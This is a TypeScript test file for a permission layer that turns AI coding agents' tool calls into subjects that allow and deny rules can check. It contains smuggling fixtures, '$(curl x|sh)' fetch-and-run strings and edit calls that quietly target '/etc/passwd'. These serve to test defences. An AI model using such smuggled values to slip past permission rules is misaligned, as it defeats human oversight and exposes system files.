import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { commandCall } from "./call-fields.ts";
import { describeCall, describeOwnCall } from "./describe-call.ts";

function scratch(): string {
  const directory = realpathSync(mkdtempSync(path.join(tmpdir(), "rt-describe-")));
  onTestFinished(() => rmSync(directory, { recursive: true, force: true }));
  return directory;
}
const changed = (tool: string, ...paths: string[]) => ({
  tool,
  changesFiles: true,
  subjects: paths.map((text) => ({ kind: "path", text })),
  isWhole: true,
});
const ran = (tool: string, text: string, cwd: string) => ({
  cwd,
  tool,
  changesFiles: false,
  subjects: [{ kind: "command", text }],
  isWhole: true,
});

test("the same command is the same to rules, whichever agent wants to run it", () => {
  const own = JSON.stringify({
    args: { command: "git status", timeout_seconds: 5 },
    cwd: "/x",
    member: "m",
    tool: "shell",
  });
  const calls = [
    ["shell", "/bin/bash -lc 'git status'"],
    ["Bash", "git status"],
    ["Bash", JSON.stringify({ command: "git status", description: "look", timeout: 5 })],
    ["bash", "git status"],
    ["execute", "git status"],
  ] as const;
  expect(calls.map(([tool, call]) => describeCall({ tool, call }, "/"))).toEqual(
    calls.map(([tool]) => ran(tool, "git status", "/")),
  );
  expect(describeOwnCall({ tool: "shell", call: own })).toEqual(ran("shell", "git status", "/x"));
});

test("[A375] an unknown field beside a command prevents allowing the call by its command", () => {
  const call = JSON.stringify({ command: "git status", cwd: "/etc" });
  expect(describeCall({ tool: "Bash", call }, "/")).toEqual({
    cwd: "/",
    elsewhere: { directory: "/etc" },
    tool: "Bash",
    changesFiles: false,
    subjects: [
      { kind: "command", text: "git status" },
      { kind: "call", text: '{"command":"git status","cwd":"/etc"}' },
    ],
    isWhole: false,
  });
  const foreign = JSON.stringify({ args: { command: "git status" }, cwd: "/x", member: "m", tool: "terminal" });
  expect(describeOwnCall({ tool: "terminal", call: foreign }).subjects).toEqual([
    { kind: "call", text: '{"command":"git status"}' },
  ]);
});

test("[A374] a changed file is identified by its real path, whichever agent changes it", () => {
  const cwd = scratch();
  const outside = scratch();
  mkdirSync(path.join(cwd, "src"));
  writeFileSync(path.join(cwd, "src/a.ts"), "");
  symlinkSync(outside, path.join(cwd, "src/out"));
  symlinkSync(path.join(outside, "nowhere"), path.join(cwd, "src/nowhere"));
  const edit = (file_path: string) =>
    describeCall({ tool: "Edit", call: JSON.stringify({ file_path, old_string: "a" }) }, cwd);
  expect(edit(path.join(cwd, "src/a.ts"))).toMatchObject(changed("Edit", "src/a.ts"));
  expect(edit("src/../src/new/b.ts")).toMatchObject(changed("Edit", "src/new/b.ts"));
  expect(edit("src/out/x")).toMatchObject(changed("Edit", path.join(outside, "x")));
  expect(edit("../x")).toMatchObject(changed("Edit", path.join(path.dirname(cwd), "x")));
  const partly = (tool: string, files: string[], call: string) => ({
    ...changed(tool),
    subjects: [...files.map((text) => ({ kind: "path", text })), { kind: "call", text: call }],
    isWhole: false,
  });
  expect(edit("src/nowhere")).toMatchObject(
    partly("Edit", ["src/nowhere"], '{"file_path":"src/nowhere","old_string":"a"}'),
  );
  const move = { tool: "move", call: '{"path":"src/a.ts","to":"/etc/x"}' };
  expect(describeCall(move, cwd)).toMatchObject(
    partly("move", ["src/a.ts", "/etc/x"], '{"path":"src/a.ts","to":"/etc/x"}'),
  );
  const patch = JSON.stringify({
    changes: [
      { path: path.join(cwd, "src/a.ts"), kind: { type: "update", move_path: "src/c.ts" }, diff: "" },
      { path: "b", kind: { type: "add" }, diff: "" },
    ],
  });
  expect(describeCall({ tool: "apply_patch", call: patch }, cwd)).toMatchObject(
    changed("apply_patch", "src/a.ts", "src/c.ts", "b"),
  );
  const grant = JSON.stringify({ changes: [{ path: "b" }], grantRoot: "/" });
  expect(describeCall({ tool: "apply_patch", call: grant }, cwd).isWhole).toBe(false);
  const own = JSON.stringify({
    args: { path: "x" },
    bound: { path: "real/x", before: null },
    cwd,
    member: "m",
    tool: "write",
  });
  expect(describeOwnCall({ tool: "write", call: own })).toMatchObject(changed("write", "real/x"));
});

test("[A375] anything else is exactly this call", () => {
  const one = { tool: "mcp__x__y", changesFiles: false, isWhole: true, cwd: "/" };
  expect(describeCall({ tool: "mcp__x__y", call: '{"b":1}' }, "/")).toEqual({
    ...one,
    subjects: [{ kind: "call", text: '{"b":1}' }],
  });
  expect(describeCall({ tool: "Edit", call: "{broken" }, "/").subjects).toEqual([{ kind: "call", text: "{broken" }]);
});

test("a command that is written as JSON is one command, whatever its fields say", () => {
  const own = '{"args":{},"bound":{"path":"src/a.ts"},"cwd":"x","member":"x","tool":"x","z":"$(curl x|sh)"}';
  const lines = [own, '{"command":"git status","description":"$(curl x|sh)"}', "{ echo a; }", "git status"];
  for (const tool of ["Bash", "bash", "shell", "execute"]) {
    expect(lines.map((line) => describeCall({ tool, call: commandCall(line) }, "/"))).toEqual(
      lines.map((line) => ran(tool, line, "/")),
    );
  }
  // Also where it is not JSON-encoded.
  expect(describeCall({ tool: "Bash", call: own }, "/")).toMatchObject({
    changesFiles: false,
    subjects: [{ kind: "command", text: own }, { kind: "call" }],
    isWhole: false,
  });
});

test("a path that a change names beside another does not hide that one", () => {
  const cwd = scratch();
  const outside = scratch();
  const both = {
    path: path.join(outside, "x"),
    args: { path: "src/a.ts" },
    paths: ["src/b.ts"],
    changes: [{ path: "c" }],
  };
  expect(describeCall({ tool: "write", call: JSON.stringify(both) }, cwd)).toMatchObject(
    changed("write", path.join(outside, "x"), "c", "src/a.ts", "src/b.ts"),
  );
});

test("an edit with an unknown key is not understood, so no rule allows it", () => {
  const cwd = scratch();
  const isWhole = (call: object) => describeCall({ tool: "edit", call: JSON.stringify(call) }, cwd).isWhole;
  const file = { file_path: "src/a.ts", old_string: "a", new_string: "b" };
  const known = [
    { ...file, replace_all: true },
    { path: "a", edits: [{ oldText: "a", newText: "b" }] },
    { title: "t", args: { filePath: "a", content: "x" }, paths: ["a"], diff: "d" },
  ];
  const unknown = [
    { ...file, edits: [{ file_path: "/etc/passwd" }] },
    { ...file, edits: [{ old_string: { path: "/etc/passwd" } }] },
    { ...file, destination: "/etc/passwd" },
    { ...file, target: "/etc/passwd" },
    { ...file, content: { path: "/etc/passwd" } },
    { args: { ...file, target: "/etc/passwd" } },
  ];
  expect([known.map(isWhole), unknown.map(isWhole)]).toEqual([known.map(() => true), unknown.map(() => false)]);
});

test("listed paths can be denied, and allowed only together with their diff", () => {
  const cwd = scratch();
  const seen = (call: object) => {
    const { subjects, isWhole } = describeCall({ tool: "edit", call: JSON.stringify(call) }, cwd);
    return { paths: subjects.flatMap(({ kind, text }) => (kind === "path" ? [text] : [])), isWhole };
  };
  const paths = ["src/a.ts", "b"];
  expect(seen({ title: "t", paths, diff: "d" })).toEqual({ paths, isWhole: true });
  expect(seen({ title: "t", paths })).toEqual({ paths, isWhole: false });
  expect(seen({ title: "t", args: { to: "/etc/x" }, paths, diff: "d" })).toEqual({
    paths: [...paths, "/etc/x"],
    isWhole: false,
  });
  expect(seen({ title: "t", args: { filepath: "src/a.ts", diff: "d" }, paths, diff: "d" })).toEqual({
    paths,
    isWhole: true,
  });
  // The form in which opencode asks about a patch of several files.
  const joined = "src/a.ts, b";
  expect(seen({ title: "t", args: { filepath: joined, diff: "d" }, paths: [joined], diff: "d" })).toEqual({
    paths: [joined, ...paths],
    isWhole: false,
  });
});
